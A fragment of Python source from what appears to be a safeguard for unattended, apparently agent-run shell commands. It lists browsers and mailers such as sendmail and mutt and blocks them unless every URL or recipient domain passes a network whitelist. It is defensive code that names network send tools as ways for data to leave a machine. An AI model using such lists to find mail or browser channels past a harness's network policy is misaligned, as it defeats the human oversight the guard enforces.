    "brave-browser microsoft-edge microsoft-edge-stable opera vivaldi epiphany"
)
MAILERS = word_set("mail mailx sendmail mutt neomail s-nail")


def _browser(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    """A web browser fetches what it is given and its start page. In an unattended run without
    the OS sandbox, a URL argument is the network policy's, as for ``open``, and with none the
    start page and whatever is clicked reach hosts the whitelist cannot judge (policy). With the
    sandbox on, its network rules hold the browser as they hold every program no rule names."""
    if not ctx.unattended or (args and all(a.value in ASKS_VERSION_OR_HELP for a in args)):
        return ALLOW  # ``firefox --version`` prints and opens nothing
    given = False
    for word in args:
        v = word.value
        if v is None:
            return block("network-unknown-target", seg, f"{name} of a target computed at run time")
        if "://" in v:
            given = True
            verdict = network_url(v, ctx, seg)
            if not verdict.allowed:
                return verdict
    if not given:
        return block(
            "network-unknown-target",
            seg,
            f"{name} opens its start page and whatever is clicked; the network policy lets an "
            "unattended run without the OS sandbox reach only the whitelist",
        )
    return ALLOW


def _mail(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    """Mail is sent to the recipients' domains: in an unattended run without the OS sandbox each
    is a host for the network policy, and with no recipient on the command line (``sendmail -t``
    reads them from the message) where it goes cannot be judged. With the sandbox on, its network
    rules hold the mailer as they hold every program no rule names."""
    if not ctx.unattended:
        return ALLOW
    recipients = 0
    for word in args:
        v = word.value
        if v is None:
            return block("network-unknown-target", seg, f"{name} to a recipient computed later")
        if "@" in v and not v.startswith("-"):
            recipients += 1
            verdict = network_url(f"smtp://{v.rsplit('@', 1)[1].strip('<>')}", ctx, seg)
            if not verdict.allowed:
                return verdict
    if not recipients:
        return block("network-unknown-target", seg, f"{name} sends to recipients not named here")
    return ALLOW


def _web_server(
    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
) -> Verdict:
    from ondas.guards.bash_sockets import listening_tool

    return listening_tool(name, args, ctx, seg)


register("httpd busybox-httpd morbo", _web_server)
register(" ".join(sorted(BROWSERS)), _browser)
register(" ".join(sorted(MAILERS)), _mail)
